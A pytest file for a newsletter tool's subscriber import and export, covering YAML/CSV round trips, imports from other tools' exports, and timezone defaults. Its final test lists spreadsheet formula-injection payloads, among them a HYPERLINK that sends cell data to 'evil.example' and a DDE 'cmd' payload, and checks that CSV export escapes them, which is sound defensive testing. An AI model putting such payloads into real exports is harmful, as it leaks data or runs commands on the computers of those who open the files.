"""Moving a list between tools and stores, as an operator would: `digest subscribers import`
from this project's YAML or another tool's CSV export, `digest subscribers export` back."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
import yaml

from digest import config as config_mod
from digest.models import Subscriber
from digest.store import open_stores

from .conftest import FIXTURES


@pytest.fixture
def in_database(project: Path) -> Path:
    """The example project with `subscribers: database` and an empty list."""
    config = project / "digest.yaml"
    config.write_text(config.read_text().replace("subscribers: subscribers.yaml", "subscribers: database"))
    return project


def _listed(root: Path) -> dict[str, object]:
    with open_stores(config_mod.load(root / "digest.yaml"), readonly=True) as opened:
        return {r.email: r for r in opened.subscribers.readers()}


def test_a_yaml_list_moves_into_the_database_and_back_unchanged(in_database, cli):
    first = cli("subscribers", "import", "subscribers.yaml", cwd=in_database)
    assert first.returncode == 0, first.stderr
    assert "3 added, 0 updated, 0 unchanged" in first.stdout
    again = cli("subscribers", "import", "subscribers.yaml", cwd=in_database)
    assert "0 added, 0 updated, 3 unchanged" in again.stdout  # idempotent
    exported = cli("subscribers", "export", "--out", "back.yaml", cwd=in_database)
    assert exported.returncode == 0, exported.stderr

    original = yaml.safe_load((in_database / "subscribers.yaml").read_text())["subscribers"]
    back = yaml.safe_load((in_database / "back.yaml").read_text())["subscribers"]
    assert [Subscriber.model_validate(e) for e in back] == [Subscriber.model_validate(e) for e in original]
    assert back[1] == {"status": "active", **original[1]}  # the schedule is written out in full
    assert '    send_at: "08:30"' in (in_database / "back.yaml").read_text()  # quoted, as people write it


def test_a_listmonk_export_imports_with_its_attributes_and_blocklisted_readers_are_not_mailed(
    in_database, cli
):
    shutil.copy(FIXTURES / "listmonk_subscribers.csv", in_database / "listmonk.csv")
    result = cli("subscribers", "import", "listmonk.csv", cwd=in_database)
    assert result.returncode == 0, result.stderr
    assert "columns ignored (digest has no such field): uuid, updated_at" in result.stderr
    readers = _listed(in_database)
    assert readers["ada@example.org"].keywords == ["tokenizer", "dense retrieval"]
    assert readers["ada@example.org"].created.isoformat() == "2025-03-01T09:12:44+00:00"
    assert readers["spam-me-not@example.org"].status == "unsubscribed"
    kenji = readers["kenji@example.org"]
    assert (kenji.status, kenji.topics, kenji.send_at, kenji.timezone) == (
        "active", ["retrieval"], "06:30", "Asia/Tokyo",
    )  # fmt: skip


def test_bad_rows_are_named_by_line_and_nothing_is_imported_unless_asked(in_database, cli):
    shutil.copy(FIXTURES / "mailchimp_audience.csv", in_database / "audience.csv")
    refused = cli("subscribers", "import", "audience.csv", cwd=in_database)
    assert refused.returncode == 2
    assert "audience.csv:3: not-an-address: email: value is not a valid email address" in refused.stderr
    assert "audience.csv:4: hedy@example.org: timezone: unknown time zone 'Mars/Base'" in refused.stderr
    assert "audience.csv:5: ALAN@example.org: duplicate address, already at line 2" in refused.stderr
    assert (
        "nothing was imported" in refused.stderr and "--skip-bad to import the 1 good entry" in refused.stderr
    )
    assert _listed(in_database) == {}

    partial = cli("subscribers", "import", "audience.csv", "--skip-bad", cwd=in_database)
    assert partial.returncode == 1  # ran, some items failed (each reported)
    assert "1 added, 0 updated, 0 unchanged; 3 bad entries skipped" in partial.stdout
    (alan,) = _listed(in_database).values()
    assert (alan.email, alan.name, alan.timezone) == ("alan@example.org", "Alan Turing", "Asia/Tokyo")
    assert alan.confirmed.isoformat() == "2025-02-01T08:03:00"


def test_an_import_does_not_resubscribe_a_reader_who_left_and_says_so(in_database, cli):
    cli("subscribers", "import", "subscribers.yaml", cwd=in_database)
    assert cli("unsubscribe", "grace@example.org", cwd=in_database).returncode == 0
    again = cli("subscribers", "import", "subscribers.yaml", cwd=in_database)
    assert again.returncode == 0, again.stderr
    assert "grace@example.org: kept unsubscribed: an import does not resubscribe" in again.stdout
    assert _listed(in_database)["grace@example.org"].status == "unsubscribed"


def test_csv_export_round_trips_through_import_into_another_database(in_database, cli, tmp_path):
    cli("subscribers", "import", "subscribers.yaml", cwd=in_database)
    out = cli("subscribers", "export", "--format", "csv", cwd=in_database)
    assert out.returncode == 0, out.stderr
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert [r["email"] for r in rows] == ["ada@example.org", "grace@example.org", "alan@example.org"]
    assert rows[0]["keywords"] == "tokenizer; dense retrieval; embeddings"

    other = tmp_path / "other"
    shutil.copytree(in_database, other, ignore=shutil.ignore_patterns(".digest"))
    (other / "list.csv").write_text(out.stdout)
    imported = cli("subscribers", "import", "list.csv", cwd=other)
    assert imported.returncode == 0, imported.stderr
    assert _listed(other) == _listed(in_database)


def test_a_file_that_is_not_a_list_says_what_to_give(in_database, cli):
    (in_database / "list.csv").write_text("name,city\nAda,London\n")
    result = cli("subscribers", "import", "list.csv", cwd=in_database)
    assert result.returncode == 2
    assert "list.csv:1: no email column (found: name, city)" in result.stderr
    (in_database / "list.json").write_text("{}")
    result = cli("subscribers", "import", "list.json", cwd=in_database)
    assert result.returncode == 2 and "give a .yaml/.yml list" in result.stderr


# --- issue 22: a reader without `timezone` is in the newsletter's zone -------------------------


def _newsletter_zone(root: Path, zone: str) -> None:
    config = root / "digest.yaml"
    text, n = re.subn(r"(?m)^  timezone: \S+", f"  timezone: {zone}", config.read_text(), count=1)
    assert n == 1
    config.write_text(text)


def test_a_csv_row_without_a_timezone_is_imported_in_the_newsletters_zone(in_database, cli):
    _newsletter_zone(in_database, "Asia/Tokyo")
    (in_database / "list.csv").write_text(
        "email,timezone\nzoneless@example.org,\nlondon@example.org,Europe/London\n"
    )
    result = cli("subscribers", "import", "list.csv", cwd=in_database)
    assert result.returncode == 0, result.stderr
    readers = _listed(in_database)
    assert readers["zoneless@example.org"].timezone == "Asia/Tokyo"
    assert readers["london@example.org"].timezone == "Europe/London"


def test_a_yaml_entry_without_a_timezone_is_imported_in_the_newsletters_zone(in_database, cli):
    _newsletter_zone(in_database, "America/Chicago")
    (in_database / "list.yaml").write_text("subscribers:\n  - email: zoneless@example.org\n")
    result = cli("subscribers", "import", "list.yaml", cwd=in_database)
    assert result.returncode == 0, result.stderr
    assert _listed(in_database)["zoneless@example.org"].timezone == "America/Chicago"


def test_a_hand_written_entry_without_a_timezone_is_sent_at_the_newsletters_local_time(project, cli):
    _newsletter_zone(project, "Asia/Tokyo")
    (project / "subscribers.yaml").write_text(
        'subscribers:\n  - email: zoneless@example.org\n    send_at: "07:00"\n'
        '    created: "2026-12-01T00:00:00+00:00"\n'
    )
    listing = cli("subscribers", cwd=project)
    assert listing.returncode == 0, listing.stderr
    assert "Asia/Tokyo" in listing.stdout and "UTC" not in listing.stdout.split("next")[0]
    # 07:00 on the 8th in Tokyo is 22:00 UTC on the 7th; 07:00 UTC would be 16:00 in Tokyo.
    early = cli("send", "--due", "--now", "2026-12-07T21:59:00Z", cwd=project)
    assert "sent 0," in early.stdout, early.stderr
    due = cli("send", "--due", "--now", "2026-12-07T22:00:00Z", cwd=project)
    assert "issue 2026-12-08: sent 1," in due.stdout, due.stderr


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "'=already quoted",
    "'plain quote",
]


def test_csv_export_cells_never_start_a_formula_and_import_restores_them(in_database, cli, tmp_path):
    from digest.store import transfer

    readers = [
        {"email": f"r{n}@example.org", "name": formula, "keywords": [formula.strip(), "ok"]}
        for n, formula in enumerate(FORMULAS)
    ]
    (in_database / "formulas.yaml").write_text(yaml.safe_dump({"subscribers": readers}))
    first = cli("subscribers", "import", "formulas.yaml", cwd=in_database)
    assert first.returncode == 0, first.stderr
    out = cli("subscribers", "export", "--format", "csv", cwd=in_database)
    assert out.returncode == 0, out.stderr
    cells = [cell for row in csv.reader(io.StringIO(out.stdout)) for cell in row]
    risky = [c for c in cells if c.lstrip("'").lstrip(" ").startswith(transfer._FORMULA_START)]
    assert risky and all(c.startswith("'") for c in risky)  # each shows as text in a spreadsheet
    assert "'plain quote" in cells  # a quote of the reader's own is left alone

    other = tmp_path / "other"
    shutil.copytree(in_database, other, ignore=shutil.ignore_patterns(".digest"))
    (other / "list.csv").write_text(out.stdout)
    imported = cli("subscribers", "import", "list.csv", cwd=other)
    assert imported.returncode == 0, imported.stderr
    assert _listed(other) == _listed(in_database)
    assert _listed(other)["r0@example.org"].name == FORMULAS[0]
